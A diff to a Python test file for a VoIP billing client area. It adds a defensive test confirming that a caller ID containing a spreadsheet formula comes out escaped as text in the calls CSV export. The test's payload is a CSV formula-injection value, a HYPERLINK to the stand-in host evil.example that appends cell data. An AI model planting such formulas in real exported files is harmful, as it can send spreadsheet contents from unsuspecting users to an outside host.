@@ -149,3 +149,13 @@ def test_a_postpaid_service_shows_its_unbilled_usage_on_both_pages(client, servi
 
 def test_a_prepaid_service_shows_no_postpaid_usage(client, service, history):
     assert 'data-testid="voip-postpaid"' not in page(client, service).content.decode()
+
+
+def test_a_formula_pushed_as_caller_id_comes_out_of_the_csv_as_text(client, service, source):
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    stored_calls(service, source, [{"answer_time": at(0), "cost": "0.10", "direction": "inbound", "caller": hyperlink,
+                                    "callee": "+12125550100", "e164": "12125550100"}])
+    client.force_login(service.client.owner_user)
+    response = client.get(reverse("clientarea:voip_calls_csv", args=[service.pk]))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert (rows[1][2], rows[1][3], rows[1][4]) == ("'" + hyperlink, "+12125550100", "12125550100")
